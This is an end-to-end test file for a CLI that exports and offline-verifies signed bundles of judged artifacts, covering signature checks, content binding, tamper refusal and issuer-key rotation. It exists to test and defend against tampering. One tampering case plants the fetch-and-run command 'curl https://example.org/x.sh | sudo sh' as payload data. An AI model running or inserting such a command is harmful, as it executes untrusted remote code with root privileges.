// The auditor's path with the built binary against a real `akas serve`: a published artifact
// whose bytes sit in the node's content store, exported as a bundle with its blobs, checked
// offline; every tampering named and refused, those of issue 20 (what was judged is what is
// published) among them; an issuer-key rotation that old credentials survive.
import { createHash } from 'node:crypto';
import { mkdirSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { samplePayload } from '../fixtures/payloads.js';
import { calibratedProfiles, runCli, setupCli, startServe, tempDir, type RunningNode, judgeCommand } from '../helpers/e2e.js';

let node: RunningNode;
let work: string;
let issuer: string;
let proposalId: string;
let bundleFile: string;
let rejectedFile: string;
const blobs = () => join(work, 'blobs');

const akas = (profile: string, args: string[]) => runCli(['--base-url', node.url, '--profile', profile, ...args], { cwd: work });
/** An offline run: the base URL points nowhere, so anything that needed the node would fail. */
const offline = (args: string[], input?: string) => runCli(args, { cwd: work, input, env: { AKAS_BASE_URL: 'http://127.0.0.1:9' } });
const judgeArgs = (id: string) => ['--json', ...judgeCommand(id, 'Checked the bytes and the card.')];
/** The proposals and judgments this file exports, made through the CLI in this process (test/helpers/e2e.ts setupCli). */
const setup = (profile: string, args: string[]) => setupCli(['--base-url', node.url, '--profile', profile, ...args]);

beforeAll(async () => {
  node = await startServe(['--allow-same-ip']);
  work = tempDir('akas-e2e-credentials-');
  await calibratedProfiles(node.url, work, ['p1', 'p2', 'p3', 'p4']);
  issuer = ((await (await fetch(`${node.url}/healthz`)).json()) as { issuer: string }).issuer;

  // An artifact whose bytes are in the node's own store (platform-verified).
  writeFileSync(join(work, 'model.bin'), Buffer.from('weights '.repeat(5000)));
  const put = await akas('p1', ['--json', 'cas', 'put', join(work, 'model.bin')]);
  expect(put.code, put.stderr).toBe(0);
  const blob = JSON.parse(put.stdout) as { sha256: string; bytes: number };
  const payload = samplePayload('artifact', 1) as { payload: Record<string, unknown> };
  payload.payload = { ...payload.payload, uri: `/api/cas/${blob.sha256}`, sha256: blob.sha256, bytes: blob.bytes };
  writeFileSync(join(work, 'artifact.json'), JSON.stringify(payload));
  const proposed = await setup('p1', ['--json', 'propose', 'artifact', '--file', join(work, 'artifact.json')]);
  expect(proposed.code, proposed.stderr).toBe(0);
  proposalId = JSON.parse(proposed.stdout).proposalId;
  for (const j of ['p2', 'p3', 'p4']) expect((await setup(j, judgeArgs(proposalId))).code).toBe(0);

  bundleFile = join(work, 'bundle.json');
  const exported = await akas('p1', ['export', proposalId, '-o', bundleFile, '--blobs', blobs()]);
  expect(exported.code, exported.stderr).toBe(0);

  // A capability the three judges reject (low scores), exported too.
  writeFileSync(join(work, 'capability.json'), JSON.stringify(samplePayload('capability', 1)));
  const cap = await setup('p1', ['--json', 'propose', 'capability', '--file', join(work, 'capability.json')]);
  expect(cap.code, cap.stderr).toBe(0);
  const capId = JSON.parse(cap.stdout).proposalId;
  for (const j of ['p2', 'p3', 'p4']) {
    const r = await setup(j, [
      '--json',
      'judge',
      capId,
      '--accuracy',
      '0.2',
      '--clarity',
      '0.3',
      '--compression',
      '0.2',
      '--sources',
      '0.1',
      '--rationale',
      'Unsourced.',
    ]);
    expect(r.code, r.stdout).toBe(0);
  }
  rejectedFile = join(work, 'rejected.json');
  expect((await akas('p1', ['export', capId, '-o', rejectedFile])).code).toBe(0);
}, 120_000);
afterAll(async () => {
  await node?.stop();
  if (work) rmSync(work, { recursive: true, force: true });
});

/** Writes a changed copy of the bundle and answers its path. */
function tamperedBundle(name: string, change: (b: any) => void, from = bundleFile): string {
  const b = JSON.parse(readFileSync(from, 'utf8'));
  change(b);
  const file = join(work, `${name}.json`);
  writeFileSync(file, JSON.stringify(b));
  return file;
}

describe('akas export and akas verify bundle (e2e)', () => {
  it('exports a bundle and its blobs, and every layer checks out offline', async () => {
    expect(readdirSync(blobs())).toHaveLength(1);
    const r = await offline(['verify', 'bundle', bundleFile, '--blobs', blobs(), '--issuer', issuer]);
    expect(r.code, r.stdout + r.stderr).toBe(0);
    for (const title of ['L2  judge signatures', 'L1  credentials', 'CAS content hashes', "L3  the node's log and MACs"]) expect(r.stdout).toContain(title);
    const report = JSON.parse((await offline(['--json', 'verify', 'bundle', bundleFile, '--blobs', blobs(), '--issuer', issuer])).stdout);
    expect(report).toMatchObject({ verified: true, proposalId, failed: 0 });
    // Only the node's HMACs stay unchecked; the blob was given, so CAS is checked; the content
    // is bound by every judge (akas judge signs v2), every credential, and the log.
    expect(new Set(report.checks.filter((c: { result: string }) => c.result === 'not checked').map((c: { id: string }) => c.id))).toEqual(
      new Set(['judgment.nodeMac']),
    );
    expect(report).toMatchObject({ format: 'akas.bundle.v2', binding: { judgesSigned: 3, nodeOnly: 0, submitted: 'log' } });
    const held = report.checks.filter((c: { result: string }) => c.result === 'held').map((c: { id: string }) => c.id);
    for (const id of [
      'content.hash',
      'judgment.content',
      'credential.content',
      'log.submitted',
      'log.decision',
      'decision.recompute',
      'set.decision',
      'set.credentials',
      'set.events',
      'cas.bound',
    ])
      expect(held).toContain(id);
    // The rejected proposal's bundle holds too.
    expect((await offline(['verify', 'bundle', rejectedFile, '--issuer', issuer])).code).toBe(0);
  });

  it('says what it could not check without --issuer and --blobs, and exits 3: unanchored, never 0 (issue 32)', async () => {
    const r = await offline(['verify', 'bundle', bundleFile]);
    expect(r.code).toBe(3);
    expect(r.stdout).toContain("or --issuer DID (the node's issuer: akas node-keys");
    expect(r.stdout).toContain('not checked: pass --blobs DIR');
    expect(r.stdout).toMatch(/UNANCHORED — \d+ check\(s\) ran on keys the input brought itself/);
    // Blobs not given are not an anchor: pinned, the same bundle exits 0 with them unchecked.
    expect((await offline(['verify', 'bundle', bundleFile, '--issuer', issuer])).code).toBe(0);
  });

  const tamperings: Array<[string, (b: any) => void, string]> = [
    [
      'a judgment signature',
      (b) => (b.proposal.judgments[0].signature.signature = b.proposal.judgments[0].signature.signature.replace(/^./, (c: string) => (c === 'a' ? 'b' : 'a'))),
      'judgment.signature',
    ],
    ['a judgment score', (b) => (b.proposal.judgments[1].scores.accuracy = 0.1), 'judgment.payload'],
    ['a credential value', (b) => (b.credentials[2].credentialSubject.rationale = 'Something else.'), 'credential.proof.signature'],
    ['a judge key', (b) => (b.judges[0].signing.publicKey = b.judges[1].signing.publicKey), 'judgment.key'],
    [
      'the issuer key list',
      (b) =>
        (b.issuerKeys.rotations = [
          { type: 'akas.issuer-rotation.v1', from: issuer, to: b.issuerKeys.current, at: 1, signatures: { from: '00'.repeat(64), to: '00'.repeat(64) } },
        ]),
      'issuer.chain',
    ],
  ];
  it.each(tamperings)('refuses a changed %s with exit 1, naming %s', async (name, change, check) => {
    const r = await offline(['--json', 'verify', 'bundle', tamperedBundle(name.replace(/ /g, '-'), change), '--blobs', blobs(), '--issuer', issuer]);
    expect(r.code, r.stdout).toBe(1);
    expect(
      JSON.parse(r.stdout)
        .checks.filter((c: { result: string }) => c.result === 'failed')
        .map((c: { id: string }) => c.id),
    ).toContain(check);
  });

  // Issue 20: each of these exited 0 ("held 68, failed 0") before content binding.
  const other = Buffer.from('other weights '.repeat(300));
  const otherSha = createHash('sha256').update(other).digest('hex');
  const contentTamperings: Array<[string, (b: any) => void, string, string?]> = [
    ['payload', (b) => (b.proposal.payload.payload.provenance.framework = 'curl https://example.org/x.sh | sudo sh'), 'content.hash'],
    ['title', (b) => (b.proposal.title = b.proposal.payload.title = 'A trusted model'), 'content.hash'],
    ['path', (b) => (b.proposal.path = b.proposal.payload.path = '/models/trusted'), 'content.hash'],
    ['proposer', (b) => (b.proposal.proposer = b.proposal.judgments[0].agentTag), 'log.submitted'],
    ['status', (b) => (b.proposal.status = 'rejected'), 'log.decision'],
    ['outcome', (b) => (b.proposal.outcome.weightedComposite = 0.99), 'decision.recompute'],
    [
      'deleted judgment',
      (b) => {
        const [gone] = b.proposal.judgments.splice(1, 1);
        b.proposal.judgmentCount = 2;
        b.credentials = b.credentials.filter((c: any) => !c.credentialSubject.id.endsWith(gone.judgmentId));
        b.log.entries = b.log.entries.filter((e: any) => e.judgmentId !== gone.judgmentId);
      },
      'set.decision',
    ],
    ['added judgment', (b) => b.proposal.judgments.push({ ...b.proposal.judgments[0], judgmentId: 'jdg_00000000000000ad' }), 'set.decision'],
    ['swapped credential', (b) => (b.credentials[0] = JSON.parse(readFileSync(rejectedFile, 'utf8')).credentials[0]), 'set.credentials'],
    [
      'artifact hash, with matching bytes supplied',
      (b) => {
        Object.assign(b.proposal.payload.payload, { sha256: otherSha, uri: `/api/cas/${otherSha}`, bytes: other.length });
        Object.assign(b.cas[0], { sha256: otherSha, uri: `/api/cas/${otherSha}`, bytes: other.length });
      },
      'content.hash',
      'other-blobs',
    ],
    [
      'listed artifact hash, with matching bytes supplied',
      (b) => Object.assign(b.cas[0], { sha256: otherSha, uri: `/api/cas/${otherSha}`, bytes: other.length }),
      'cas.bound',
      'other-blobs',
    ],
  ];
  it.each(contentTamperings.map(([name, change, check, blobDir]) => ({ name, change, check, blobDir })))(
    'refuses a changed $name with exit 1, naming $check',
    async ({ name, change, check, blobDir }) => {
      if (blobDir) {
        mkdirSync(join(work, blobDir), { recursive: true });
        writeFileSync(join(work, blobDir, otherSha), other);
      }
      const file = tamperedBundle(name.replace(/[ ,]+/g, '-'), change);
      const r = await offline(['--json', 'verify', 'bundle', file, '--blobs', blobDir ? join(work, blobDir) : blobs(), '--issuer', issuer]);
      expect(r.code, r.stdout).toBe(1);
      const report = JSON.parse(r.stdout);
      expect(report.checks.filter((c: { result: string }) => c.result === 'failed').map((c: { id: string }) => c.id)).toContain(check);
      if (blobDir)
        expect(report.checks.filter((c: { id: string; result: string }) => c.id === 'cas.hash').map((c: { result: string }) => c.result)).toEqual(['held']);
      // The human report names it too (checked once: the same report, printed).
      if (name === 'payload') {
        const text = await offline(['verify', 'bundle', file, '--blobs', blobs(), '--issuer', issuer]);
        expect(text.code).toBe(1);
        expect(text.stdout).toMatch(/FAIL {2}content\.hash/);
        expect(text.stdout).toMatch(/content {2}judged = published\s+\d+ held, \d+ FAILED/);
      }
    },
  );

  it('refuses the rejected proposal relabelled published, with a made-up outcome and two of its three judgments deleted', async () => {
    const file = tamperedBundle(
      'relabelled',
      (b) => {
        b.proposal.status = 'published';
        b.proposal.outcome = { weightedComposite: 0.91, decision: 'published', depositSettlement: 'refunded' };
        b.proposal.judgments = b.proposal.judgments.slice(0, 1);
        b.proposal.judgmentCount = 1;
      },
      rejectedFile,
    );
    const r = await offline(['--json', 'verify', 'bundle', file, '--issuer', issuer]);
    expect(r.code, r.stdout).toBe(1);
    const failed = JSON.parse(r.stdout)
      .checks.filter((c: { result: string }) => c.result === 'failed')
      .map((c: { id: string }) => c.id);
    expect(failed).toEqual(expect.arrayContaining(['log.decision', 'set.decision', 'decision.recompute']));
  });

  it('refuses a changed byte of a bundled blob with exit 1 (cas.hash), and a file that is not JSON with exit 2', async () => {
    const bad = join(work, 'bad-blobs');
    mkdirSync(bad, { recursive: true });
    const [name] = readdirSync(blobs());
    const bytes = readFileSync(join(blobs(), name));
    bytes[100] ^= 1;
    writeFileSync(join(bad, name), bytes);
    const r = await offline(['verify', 'bundle', bundleFile, '--blobs', bad]);
    expect(r.code).toBe(1);
    expect(r.stdout).toMatch(/FAIL {2}cas\.hash/);
    writeFileSync(join(work, 'not.json'), '{"format": "akas.bundle.v1", ');
    expect((await offline(['verify', 'bundle', join(work, 'not.json')])).code).toBe(2);
    expect((await offline(['verify', 'bundle', join(work, 'missing.json')])).code).toBe(2);
  });
});

describe('akas verify credential (e2e)', () => {
  let dir: string;
  beforeAll(() => {
    dir = join(work, 'creds');
    mkdirSync(dir, { recursive: true });
    const b = JSON.parse(readFileSync(bundleFile, 'utf8'));
    for (const [i, c] of (b.credentials as unknown[]).entries()) writeFileSync(join(dir, `c${i}.json`), JSON.stringify(c, null, 2));
    writeFileSync(join(work, 'creds.jsonl'), b.credentials.map((c: unknown) => JSON.stringify(c)).join('\n') + '\n');
  });

  it('checks files, a folder, JSON lines and stdin, with the judge signatures too', async () => {
    // The status is not what this checks (test/e2e/status-lists.test.ts does): skipped, and the verdict says so.
    const r = await offline(['verify', 'credential', dir, join(work, 'creds.jsonl'), '--issuer', issuer, '--judge-signature', '--no-status']);
    expect(r.code, r.stdout + r.stderr).toBe(0);
    expect(r.stdout).toContain('6/6 credential(s) hold');
    const fromStdin = await offline(['--json', 'verify', 'credential', '-'], readFileSync(join(dir, 'c0.json'), 'utf8'));
    // No issuer pinned: the credential holds on the key it names itself, which anchors nothing (exit 3).
    expect(fromStdin.code).toBe(3);
    expect(JSON.parse(fromStdin.stdout)).toMatchObject({ verdict: 'unanchored', verified: false, anchored: false, total: 1, held: 1, issuerPinned: false });
  });

  it('exits 1 naming the check for a changed byte, 1 for another issuer, 2 for a file that is not JSON', async () => {
    const text = readFileSync(join(dir, 'c1.json'), 'utf8');
    writeFileSync(join(work, 'changed.json'), text.replace('"composite": 0.8', '"composite": 0.9'));
    const changed = await offline(['verify', 'credential', join(work, 'changed.json')]);
    expect(changed.code).toBe(1);
    expect(changed.stdout).toContain('L1 proof.signature');
    const other = await offline(['verify', 'credential', join(dir, 'c0.json'), '--issuer', 'did:key:z6MkrJVnaZkeFzdQyMZu1cgjg7k1pZZ6pvBQ7XJPt4swbTQ2']);
    expect(other.code).toBe(1);
    expect(other.stdout).toContain('issuer.pinned');
    writeFileSync(join(work, 'garbage.json'), 'not json at all');
    expect((await offline(['verify', 'credential', join(work, 'garbage.json')])).code).toBe(2);
  });
});

describe('issuer key rotation (e2e)', () => {
  it('keeps credentials issued before `akas serve --rotate-issuer-key` verifiable against the new key list', async () => {
    const dataDir = node.dataDir;
    await node.stop({ keepData: true });
    node = await startServe(['--allow-same-ip', '--rotate-issuer-key'], { dataDir });
    const health = (await (await fetch(`${node.url}/healthz`)).json()) as { issuer: string };
    expect(health.issuer).not.toBe(issuer);
    writeFileSync(join(work, 'keys.json'), await (await fetch(`${node.url}/api/node/keys`)).text());
    const cred = join(work, 'creds', 'c0.json');

    const withKeys = await offline(['verify', 'credential', cred, '--issuer', health.issuer, '--issuer-keys', join(work, 'keys.json'), '--no-status']);
    expect(withKeys.code, withKeys.stdout).toBe(0);
    const pinnedOnly = await offline(['verify', 'credential', cred, '--issuer', health.issuer]);
    expect(pinnedOnly.code).toBe(1); // the prior key's credentials need the key list
    // A file that is not a key list (here a bundle) is exit 2, not a check run without the list asked for.
    for (const cmd of [
      ['credential', cred],
      ['bundle', bundleFile],
    ]) {
      const wrong = await offline(['--json', 'verify', ...cmd, '--issuer', health.issuer, '--issuer-keys', bundleFile]);
      expect(wrong.code, wrong.stdout).toBe(2);
      expect(JSON.parse(wrong.stdout)).toMatchObject({ code: 'not_a_key_list' });
    }

    // A bundle exported now carries the rotation: pinned on the new issuer, the old credentials verify.
    const fresh = join(work, 'bundle-after.json');
    expect((await akas('p1', ['export', proposalId, '-o', fresh])).code).toBe(0);
    const r = await offline(['verify', 'bundle', fresh, '--issuer', health.issuer]);
    expect(r.code, r.stdout).toBe(0);
  }, 60_000);

  it('akas trust pin writes a trust file (trust on first use) that anchors verify bundle and credential, across the rotation', async () => {
    const made = await akas('p1', ['trust', 'pin']);
    expect(made.code, made.stderr).toBe(0);
    expect(made.stderr).toContain('trust on first use');
    const trust = JSON.parse(made.stdout);
    expect(trust).toMatchObject({ type: 'akas.trust.v1', source: 'tofu', url: node.url });
    expect(trust.issuers).toHaveLength(2); // the key before the rotation, in its window, and the current one
    expect(trust.issuers[1]).toMatchObject({ validUntil: null });
    expect(trust.issuers[0].validUntil).toBe(trust.issuers[1].validFrom);
    const file = join(work, 'trust.json');
    writeFileSync(file, made.stdout);
    // The bundle exported before the rotation, one exported after it, and a credential of the old key.
    for (const b of [bundleFile, join(work, 'bundle-after.json')]) {
      const r = await offline(['--json', 'verify', 'bundle', b, '--trust', file]);
      expect(r.code, r.stdout).toBe(0);
      expect(JSON.parse(r.stdout)).toMatchObject({ verdict: 'verified', verified: true, anchored: true, unanchored: [] });
    }
    expect((await offline(['verify', 'credential', join(work, 'creds'), '--trust', file, '--no-status'])).code).toBe(0);
    // The old key's window, shortened in the file to end before it issued: exit 1 naming the window.
    trust.issuers[0].validUntil = new Date(Date.parse(trust.issuers[0].validFrom) + 1).toISOString();
    writeFileSync(join(work, 'trust-short.json'), JSON.stringify(trust));
    const short = await offline(['verify', 'credential', join(work, 'creds', 'c0.json'), '--trust', join(work, 'trust-short.json')]);
    expect(short.code, short.stdout).toBe(1);
    expect(short.stdout).toContain('(its window in the trust file)');
  }, 60_000);
});
